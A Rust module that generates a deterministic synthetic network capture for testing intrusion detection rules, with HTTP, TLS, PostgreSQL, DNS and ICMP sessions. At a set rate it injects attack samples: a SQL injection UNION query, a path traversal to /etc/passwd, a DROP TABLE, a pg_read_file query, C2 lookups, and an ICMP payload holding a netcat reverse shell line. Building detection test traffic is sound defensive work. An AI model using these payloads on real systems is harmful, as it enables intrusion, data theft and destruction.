//! A large, realistic, seeded capture, generated as a stream.

use std::cmp::Reverse;
use std::collections::{BTreeMap, BinaryHeap, VecDeque};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use crate::app::{dns, http, pgsql};
use crate::rng::Rng;
use crate::sample::{sid, C2_DOMAIN, C2_IP};
use crate::session::{self, Exchange, TlsRound};
use crate::{geneve_wrap, truncate, vxlan_wrap, Frame, Mirror, TcpConn, NS_PER_MS, SAMPLE_START_NS};

/// What to generate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WorkloadOpts {
    /// Stop starting sessions once the pcap (header + records) would reach
    /// this size; sessions in flight are finished, so the result overshoots
    /// by at most about one session.
    pub target_bytes: u64,
    /// Seed of the only random source.
    pub seed: u64,
    /// Mirror `packet-length`: cut every inner frame to this many bytes.
    pub truncate: Option<usize>,
    /// Also wrap every VXLAN frame in GENEVE (GWLB 10.0.9.10 → 10.0.9.20).
    pub geneve: bool,
    /// Per mille chance that two adjacent same-direction data segments of a
    /// TCP connection arrive swapped.
    pub reorder_permille: u32,
    /// Per mille chance that a unit of traffic (an HTTP request, a TLS
    /// session, a query, a lookup, a ping) is replaced by an attack that a
    /// bundled rule detects.
    pub attack_permille: u32,
    /// Sessions interleaved at any time.
    pub connections_in_flight: usize,
}

impl Default for WorkloadOpts {
    fn default() -> Self {
        WorkloadOpts {
            target_bytes: 100 * 1024 * 1024,
            seed: 1,
            truncate: None,
            geneve: false,
            reorder_permille: 0,
            attack_permille: 0,
            connections_in_flight: 64,
        }
    }
}

/// Counts of what a [`Workload`] generated (complete once the iterator is
/// exhausted).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct WorkloadStats {
    /// Frames emitted.
    pub frames: u64,
    /// Pcap bytes emitted, including the 24-byte global header.
    pub bytes: u64,
    /// Sessions started, by kind (`http`, `tls`, `pgsql`, `dns`, `icmp`).
    pub sessions: BTreeMap<&'static str, u64>,
    /// HTTP requests sent.
    pub http_requests: u64,
    /// Attacks injected, by the sid of the bundled rule that detects them.
    /// With `truncate` set, a match can lie beyond the cut.
    pub attacks: BTreeMap<u32, u64>,
}

/// The streaming workload iterator (see [`workload`]).
pub struct Workload {
    opts: WorkloadOpts,
    rng: Rng,
    mirrors: [Mirror; 3],
    active: Vec<VecDeque<Frame>>,
    free: Vec<usize>,
    heap: BinaryHeap<Reverse<(u64, u64, usize)>>,
    planned: u64,
    started: u64,
    next_port: u16,
    stats: WorkloadStats,
}

/// A capture of about `opts.target_bytes`: many interleaved sessions — HTTP
/// keep-alive with several requests (some chunked), TLS, PostgreSQL — plus
/// DNS and ICMP, VXLAN-wrapped from three mirror sessions (VNI 1001 web
/// server 10.0.1.5, 1002 database 10.0.2.7, 1003 app server 10.0.3.9; target
/// 10.0.0.100), in time order from 2026-01-15T10:00:00Z. Only the sessions in
/// flight are in memory. The same options give the same bytes.
pub fn workload(opts: &WorkloadOpts) -> Workload {
    let target = Ipv4Addr::new(10, 0, 0, 100);
    let mut w = Workload {
        opts: opts.clone(),
        rng: Rng::new(opts.seed),
        mirrors: [
            Mirror {
                vni: 1001,
                source_ip: Ipv4Addr::new(10, 0, 1, 5),
                target_ip: target,
            },
            Mirror {
                vni: 1002,
                source_ip: Ipv4Addr::new(10, 0, 2, 7),
                target_ip: target,
            },
            Mirror {
                vni: 1003,
                source_ip: Ipv4Addr::new(10, 0, 3, 9),
                target_ip: target,
            },
        ],
        active: Vec::new(),
        free: Vec::new(),
        heap: BinaryHeap::new(),
        planned: 24,
        started: 0,
        next_port: 32_768,
        stats: WorkloadStats {
            bytes: 24,
            ..WorkloadStats::default()
        },
    };
    let n = opts.connections_in_flight.max(1);
    for _ in 0..n {
        let jitter = w.rng.below(200 * NS_PER_MS);
        if !w.start_session(SAMPLE_START_NS + jitter) {
            break;
        }
    }
    w
}

impl Workload {
    /// What has been generated so far.
    pub fn stats(&self) -> &WorkloadStats {
        &self.stats
    }

    fn start_session(&mut self, start: u64) -> bool {
        if self.planned >= self.opts.target_bytes && self.started > 0 {
            return false;
        }
        let mut frames = self.build_session(start);
        if frames.is_empty() {
            return true;
        }
        frames.sort_by_key(|f| f.ts_ns);
        self.planned += frames.iter().map(Frame::pcap_record_len).sum::<u64>();
        let first = frames[0].ts_ns;
        let slot = match self.free.pop() {
            Some(s) => {
                self.active[s] = frames.into();
                s
            }
            None => {
                self.active.push(frames.into());
                self.active.len() - 1
            }
        };
        self.heap.push(Reverse((first, self.started, slot)));
        self.started += 1;
        true
    }

    fn port(&mut self) -> u16 {
        let p = self.next_port;
        self.next_port = if p >= 60_999 { 32_768 } else { p + 1 };
        p
    }

    fn attack(&mut self, sid: u32) {
        *self.stats.attacks.entry(sid).or_insert(0) += 1;
    }

    fn count(&mut self, kind: &'static str) {
        *self.stats.sessions.entry(kind).or_insert(0) += 1;
    }

    fn wrap(&self, inner: Vec<Frame>, mirror: usize) -> Vec<Frame> {
        let m = self.mirrors[mirror];
        inner
            .into_iter()
            .map(|f| {
                let f = match self.opts.truncate {
                    Some(snap) => truncate(&f, snap),
                    None => f,
                };
                let v = vxlan_wrap(&f, &m);
                if self.opts.geneve {
                    geneve_wrap(&v, 0, Ipv4Addr::new(10, 0, 9, 10), Ipv4Addr::new(10, 0, 9, 20))
                } else {
                    v
                }
            })
            .collect()
    }

    fn tcp_frames(&mut self, mut c: TcpConn) -> Vec<Frame> {
        if self.opts.reorder_permille > 0 {
            let mut r = self.rng.fork();
            c.reorder(&mut r, self.opts.reorder_permille);
        }
        c.into_frames()
    }

    fn external_client(&mut self) -> IpAddr {
        let nets: [[u8; 3]; 3] = [[198, 51, 100], [203, 0, 113], [192, 0, 2]];
        let n = *self.rng.pick(&nets);
        // Avoid .66, the C2 address used by attacks.
        let host = self.rng.range(10, 250) as u8;
        let host = if host == C2_IP[3] { 65 } else { host };
        IpAddr::from([n[0], n[1], n[2], host])
    }

    fn build_session(&mut self, start: u64) -> Vec<Frame> {
        let roll = self.rng.below(100);
        match roll {
            0..=44 => self.http_session(start),
            45..=69 => self.tls_session(start),
            70..=79 => self.pgsql_session(start),
            80..=94 => self.dns_session(start),
            _ => self.icmp_session(start),
        }
    }

    fn http_session(&mut self, start: u64) -> Vec<Frame> {
        self.count("http");
        let mut r = self.rng.fork();
        let client = SocketAddr::new(self.external_client(), self.port());
        let server = SocketAddr::from(([10, 0, 1, 5], 80));
        let ua = *r.pick(http::USER_AGENTS);
        let host = "shop.example.com";
        let date = start / crate::NS_PER_SEC;
        let n = r.range_usize(1, 8);
        let mut exs = Vec::with_capacity(n);
        // At most one attack per connection, so every injected attack is a
        // separate detection opportunity whatever the engine's stream
        // inspection granularity.
        let mut attacked = false;
        for i in 0..n {
            self.stats.http_requests += 1;
            let (req, resp) = if self.rng.chance_permille(self.opts.attack_permille) && !attacked {
                attacked = true;
                self.http_attack(&mut r, date)
            } else {
                http_normal(&mut r, host, ua, date, i)
            };
            let mut e = Exchange::new(req, resp);
            e.server_ns = r.range(200_000, 20 * NS_PER_MS);
            e.think_ns = r.range(NS_PER_MS, 400 * NS_PER_MS);
            exs.push(e);
        }
        let rtt = r.range(8 * NS_PER_MS, 120 * NS_PER_MS);
        let c = session::tcp_conversation(client, server, start, rtt, &exs);
        let f = self.tcp_frames(c);
        self.wrap(f, 0)
    }

    fn http_attack(&mut self, r: &mut Rng, date: u64) -> (Vec<u8>, Vec<u8>) {
        let host = "shop.example.com";
        let err = http::response(
            404,
            "text/html",
            b"<html><body><h1>404 Not Found</h1></body></html>\n",
            date,
            &[],
        );
        match r.below(3) {
            0 => {
                self.attack(sid::WEB_SQLI_UNION);
                let uri = format!(
                    "/products.php?id=-{}%20UNION%20SELECT%20username,password%20FROM%20users--",
                    r.range(1, 99)
                );
                (
                    http::Request::get(&uri, host, http::USER_AGENTS[0]).to_bytes(),
                    err,
                )
            }
            1 => {
                self.attack(sid::WEB_TRAVERSAL_PASSWD);
                let uri = format!("/download?file={}etc/passwd", "../".repeat(r.range_usize(2, 6)));
                (
                    http::Request::get(&uri, host, "python-requests/2.31.0").to_bytes(),
                    err,
                )
            }
            _ => {
                self.attack(sid::SCAN_SQLMAP_UA);
                let uri = format!("/products.php?id={}", r.range(1, 500));
                (
                    http::Request::get(&uri, host, "sqlmap/1.8.2#stable (https://sqlmap.org)").to_bytes(),
                    err,
                )
            }
        }
    }

    fn tls_session(&mut self, start: u64) -> Vec<Frame> {
        self.count("tls");
        let mut r = self.rng.fork();
        const SNIS: &[&str] = &[
            "api.example.com",
            "auth.example.org",
            "hooks.example.net",
            "storage.example.com",
            "metrics.example.io",
        ];
        // Either inbound HTTPS to the web server or outbound from the app
        // server (VNI 1003) to an API.
        let inbound = r.chance_permille(400);
        let (client, server, sni, mirror) = if inbound {
            let c = SocketAddr::new(self.external_client(), self.port());
            (c, SocketAddr::from(([10, 0, 1, 5], 443)), "shop.example.com", 0)
        } else {
            let c = SocketAddr::from(([10, 0, 3, 9], self.port()));
            let s = SocketAddr::from(([192, 0, 2, r.range(70, 99) as u8], 443));
            (c, s, *r.pick(SNIS), 2)
        };
        let attack = !inbound && self.rng.chance_permille(self.opts.attack_permille);
        let sni = if attack {
            self.attack(sid::C2_TLS_SNI);
            C2_DOMAIN
        } else {
            sni
        };
        let server = if attack {
            SocketAddr::from((C2_IP, 443))
        } else {
            server
        };
        let rounds: Vec<TlsRound> = (0..r.range_usize(1, 6))
            .map(|_| TlsRound {
                request_len: r.range_usize(150, 2_000),
                response_len: r.range_usize(200, 60_000),
                think_ns: r.range(NS_PER_MS, 300 * NS_PER_MS),
            })
            .collect();
        let rtt = if inbound {
            r.range(8 * NS_PER_MS, 120 * NS_PER_MS)
        } else {
            r.range(NS_PER_MS, 30 * NS_PER_MS)
        };
        let alpn = if r.chance_permille(700) {
            Some("http/1.1")
        } else {
            None
        };
        let c = session::tls_session(&mut r, client, server, start, rtt, sni, alpn, &rounds);
        let f = self.tcp_frames(c);
        self.wrap(f, mirror)
    }

    fn pgsql_session(&mut self, start: u64) -> Vec<Frame> {
        self.count("pgsql");
        let mut r = self.rng.fork();
        let client = SocketAddr::from(([10, 0, 3, r.range(10, 40) as u8], self.port()));
        let server = SocketAddr::from(([10, 0, 2, 7], 5432));
        let cols = [
            pgsql::Column {
                name: "id",
                type_oid: pgsql::OID_INT4,
            },
            pgsql::Column {
                name: "name",
                type_oid: pgsql::OID_VARCHAR,
            },
            pgsql::Column {
                name: "price",
                type_oid: pgsql::OID_NUMERIC,
            },
            pgsql::Column {
                name: "in_stock",
                type_oid: pgsql::OID_BOOL,
            },
        ];
        let mut queries = Vec::new();
        let mut attacked = false;
        for _ in 0..r.range_usize(1, 10) {
            if self.rng.chance_permille(self.opts.attack_permille) && !attacked {
                attacked = true;
                if r.chance_permille(500) {
                    self.attack(sid::PGSQL_DROP_TABLE);
                    let mut resp = pgsql::command_complete("DROP TABLE");
                    resp.extend(pgsql::ready_for_query(b'I'));
                    queries.push(("DROP TABLE audit_log".to_string(), resp));
                } else {
                    self.attack(sid::PGSQL_READ_FILE);
                    let resp = pgsql::select_result(
                        &[pgsql::Column {
                            name: "pg_read_file",
                            type_oid: pgsql::OID_TEXT,
                        }],
                        &[vec!["root:x:0:0:root:/root:/bin/bash\n".into()]],
                    );
                    queries.push(("SELECT pg_read_file('/etc/passwd', 0, 200)".to_string(), resp));
                }
                continue;
            }
            match r.below(3) {
                0 => {
                    let id = r.range(1, 5000);
                    let rows: Vec<Vec<String>> = (0..r.range(1, 50))
                        .map(|k| {
                            let p = r.range(199, 19_999);
                            vec![
                                (id + k).to_string(),
                                format!("item {}", id + k),
                                format!("{}.{:02}", p / 100, p % 100),
                                "t".into(),
                            ]
                        })
                        .collect();
                    queries.push((
                        format!("SELECT id, name, price, in_stock FROM products WHERE id >= {id} ORDER BY id LIMIT {}", rows.len()),
                        pgsql::select_result(&cols, &rows),
                    ));
                }
                1 => {
                    let mut resp = pgsql::command_complete("UPDATE 1");
                    resp.extend(pgsql::ready_for_query(b'I'));
                    queries.push((
                        format!(
                            "UPDATE carts SET updated_at = now() WHERE id = {}",
                            r.range(1, 99_999)
                        ),
                        resp,
                    ));
                }
                _ => {
                    let n = r.range(0, 5000).to_string();
                    queries.push((
                        "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 hour'"
                            .to_string(),
                        pgsql::select_result(
                            &[pgsql::Column {
                                name: "count",
                                type_oid: pgsql::OID_INT8,
                            }],
                            &[vec![n]],
                        ),
                    ));
                }
            }
        }
        let probe = r.chance_permille(300);
        let rtt = r.range(100_000, 900_000);
        let c = session::pgsql_session(client, server, start, rtt, "app", "shop", probe, &queries);
        let f = self.tcp_frames(c);
        self.wrap(f, 1)
    }

    fn dns_session(&mut self, start: u64) -> Vec<Frame> {
        self.count("dns");
        let mut r = self.rng.fork();
        const NAMES: &[&str] = &[
            "api.example.com",
            "auth.example.org",
            "hooks.example.net",
            "storage.example.com",
            "metrics.example.io",
            "backup.example.net",
            "cdn.example.net",
        ];
        let mirror = r.range_usize(0, 2);
        let host = [[10, 0, 1, 5], [10, 0, 2, 7], [10, 0, 3, 9]][mirror];
        let resolver = SocketAddr::from(([10, 0, 0, 2], 53));
        let mut frames = Vec::new();
        let mut t = start;
        for _ in 0..r.range(1, 3) {
            let client = SocketAddr::from((host, self.port()));
            let id = r.next_u16();
            let rtt = r.range(300_000, 3 * NS_PER_MS);
            if self.rng.chance_permille(self.opts.attack_permille) {
                self.attack(sid::C2_DNS_QUERY);
                let a = [dns::Rdata::A(Ipv4Addr::from(C2_IP))];
                frames.extend(session::dns_lookup(
                    client,
                    resolver,
                    t,
                    rtt,
                    id,
                    C2_DOMAIN,
                    dns::TYPE_A,
                    Some(&a),
                ));
            } else {
                let name = *r.pick(NAMES);
                let ip4 = Ipv4Addr::new(192, 0, 2, r.range(1, 254) as u8);
                let aaaa = r.chance_permille(400);
                let (qtype, answers) = if aaaa {
                    let v6 = std::net::Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, r.range(1, 0xfff) as u16);
                    (dns::TYPE_AAAA, vec![dns::Rdata::Aaaa(v6)])
                } else if r.chance_permille(300) {
                    (
                        dns::TYPE_A,
                        vec![
                            dns::Rdata::Cname(format!("edge-{}.{name}", r.range(1, 9))),
                            dns::Rdata::A(ip4),
                        ],
                    )
                } else {
                    (dns::TYPE_A, vec![dns::Rdata::A(ip4)])
                };
                let answers = if r.chance_permille(50) {
                    None
                } else {
                    Some(answers.as_slice())
                };
                frames.extend(session::dns_lookup(
                    client, resolver, t, rtt, id, name, qtype, answers,
                ));
            }
            t += r.range(100_000, 20 * NS_PER_MS);
        }
        self.wrap(frames, mirror)
    }

    fn icmp_session(&mut self, start: u64) -> Vec<Frame> {
        self.count("icmp");
        let mut r = self.rng.fork();
        let count = r.range(1, 4) as u16;
        let id = r.next_u16();
        if self.rng.chance_permille(self.opts.attack_permille) {
            if r.chance_permille(500) {
                self.attack(sid::SCAN_ICMP_EMPTY_ECHO);
                let src = self.external_client();
                let f = session::ping(
                    src,
                    IpAddr::from([10, 0, 1, 5]),
                    start,
                    40 * NS_PER_MS,
                    id,
                    1,
                    true,
                    &|_| Vec::new(),
                );
                return self.wrap(f, 0);
            }
            self.attack(sid::ICMP_SHELL);
            let f = session::ping(
                IpAddr::from([10, 0, 2, 7]),
                IpAddr::from(C2_IP),
                start,
                90 * NS_PER_MS,
                id,
                1,
                true,
                &|_| b"\x00\x01/bin/sh -i 2>&1 | nc 198.51.100.66 4444\n".to_vec(),
            );
            return self.wrap(f, 1);
        }
        let mirror = r.range_usize(0, 2);
        let src = IpAddr::from([[10, 0, 1, 5], [10, 0, 2, 7], [10, 0, 3, 9]][mirror]);
        let dst = IpAddr::from([10, 0, r.range(1, 4) as u8, r.range(10, 60) as u8]);
        let f = session::ping(
            src,
            dst,
            start,
            r.range(100_000, 900_000),
            id,
            count,
            true,
            &session::linux_ping_payload,
        );
        self.wrap(f, mirror)
    }
}

fn http_normal(r: &mut Rng, host: &str, ua: &str, date: u64, i: usize) -> (Vec<u8>, Vec<u8>) {
    let html = "text/html; charset=utf-8";
    if i == 0 {
        let path = *r.pick(&["/", "/products", "/products/42", "/about", "/cart"]);
        let n = r.range_usize(2_000, 20_000);
        let body = http::html_page(r, "Shop", n);
        return (
            http::Request::get(path, host, ua).to_bytes(),
            http::response(200, html, &body, date, &[]),
        );
    }
    match r.below(7) {
        0 => {
            let n = r.range_usize(1_000, 12_000);
            let body = http::css(r, n);
            (
                http::Request::get("/static/css/site.css", host, ua).to_bytes(),
                http::response(200, "text/css", &body, date, &[]),
            )
        }
        1 => {
            let n = r.range_usize(2_000, 40_000);
            let body = http::javascript(r, n);
            let path = format!("/static/js/chunk-{}.js", r.range(1, 40));
            (
                http::Request::get(&path, host, ua).to_bytes(),
                http::response(200, "application/javascript", &body, date, &[]),
            )
        }
        2 => {
            let n = r.range_usize(1_000, 60_000);
            let body = http::png(r, n);
            let path = format!("/images/p{}.png", r.range(1, 500));
            (
                http::Request::get(&path, host, ua).to_bytes(),
                http::response(200, "image/png", &body, date, &[]),
            )
        }
        3 => {
            let page = r.range(1, 30);
            let path = format!("/api/products?page={page}");
            let mut req = http::Request::get(&path, host, ua);
            req.headers = vec![("Accept", "application/json")];
            let n = r.range_usize(5, 40);
            let body = http::json_products(r, (page - 1) * 20 + 1, n);
            let chunk = r.range_usize(256, 4096);
            (
                req.to_bytes(),
                http::chunked_response(200, "application/json", &body, chunk, date),
            )
        }
        4 => {
            let form = format!("product={}&qty={}", r.range(1, 500), r.range(1, 5));
            let req = http::Request::post_form("/cart", host, ua, form.as_bytes()).to_bytes();
            (
                req,
                http::response(200, "application/json", b"{\"ok\":true}", date, &[]),
            )
        }
        5 => {
            let path = format!("/products/{}", r.range(1, 500));
            let n = r.range_usize(2_000, 15_000);
            let body = http::html_page(r, "Product", n);
            (
                http::Request::get(&path, host, ua).to_bytes(),
                http::response(200, html, &body, date, &[]),
            )
        }
        _ => {
            let path = format!("/static/img/icon-{}.svg", r.range(1, 50));
            (
                http::Request::get(&path, host, ua).to_bytes(),
                http::response(404, html, b"<html><body>not found</body></html>\n", date, &[]),
            )
        }
    }
}

impl Iterator for Workload {
    type Item = Frame;

    fn next(&mut self) -> Option<Frame> {
        let Reverse((_, id, slot)) = self.heap.pop()?;
        let queue = self.active.get_mut(slot)?;
        let frame = queue.pop_front()?;
        match queue.front() {
            Some(next) => self.heap.push(Reverse((next.ts_ns, id, slot))),
            None => {
                self.free.push(slot);
                let start = frame.ts_ns + self.rng.below(2 * NS_PER_MS);
                self.start_session(start);
            }
        }
        self.stats.frames += 1;
        self.stats.bytes += frame.pcap_record_len();
        Some(frame)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::verify::check_frame;

    fn opts(target: u64, seed: u64) -> WorkloadOpts {
        WorkloadOpts {
            target_bytes: target,
            seed,
            connections_in_flight: 16,
            ..WorkloadOpts::default()
        }
    }

    #[test]
    fn produces_about_target_bytes_in_time_order() {
        let target = 4 * 1024 * 1024;
        let mut w = workload(&opts(target, 1));
        let mut last = 0;
        let mut total = 24u64;
        for f in w.by_ref() {
            assert!(f.ts_ns >= last, "time order");
            last = f.ts_ns;
            total += f.pcap_record_len();
        }
        assert_eq!(total, w.stats().bytes);
        assert!(total >= target, "{total} < {target}");
        assert!(total < target + target / 5, "{total} overshoots {target}");
        let s = w.stats();
        for k in ["http", "tls", "pgsql", "dns", "icmp"] {
            assert!(
                s.sessions.get(k).copied().unwrap_or(0) > 0,
                "no {k} sessions: {:?}",
                s.sessions
            );
        }
        assert!(s.attacks.is_empty());
    }

    #[test]
    fn deterministic_per_seed() {
        let a: Vec<Frame> = workload(&opts(300_000, 9)).collect();
        let b: Vec<Frame> = workload(&opts(300_000, 9)).collect();
        let c: Vec<Frame> = workload(&opts(300_000, 10)).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn options_apply_and_frames_stay_valid() {
        let o = WorkloadOpts {
            target_bytes: 1_500_000,
            seed: 3,
            truncate: Some(128),
            geneve: true,
            reorder_permille: 100,
            attack_permille: 100,
            connections_in_flight: 8,
        };
        let mut w = workload(&o);
        let mut vnis = std::collections::BTreeSet::new();
        for f in w.by_ref() {
            let s = check_frame(&f.data).unwrap();
            assert!(matches!(
                s.encaps.first(),
                Some(crate::verify::Encap::Geneve { .. })
            ));
            if let Some(crate::verify::Encap::Vxlan { vni }) = s.encaps.get(1) {
                vnis.insert(*vni);
            }
            assert!(f.data.len() <= 128 + 50 + 70, "inner cut to 128");
        }
        assert_eq!(vnis.into_iter().collect::<Vec<_>>(), vec![1001, 1002, 1003]);
        assert!(
            w.stats().attacks.values().sum::<u64>() > 5,
            "{:?}",
            w.stats().attacks
        );
    }

    #[test]
    fn untruncated_frames_decode() {
        let o = WorkloadOpts {
            reorder_permille: 50,
            attack_permille: 20,
            ..opts(1_000_000, 4)
        };
        for f in workload(&o) {
            let s = check_frame(&f.data).unwrap();
            assert!(!s.inner.truncated);
        }
    }
}
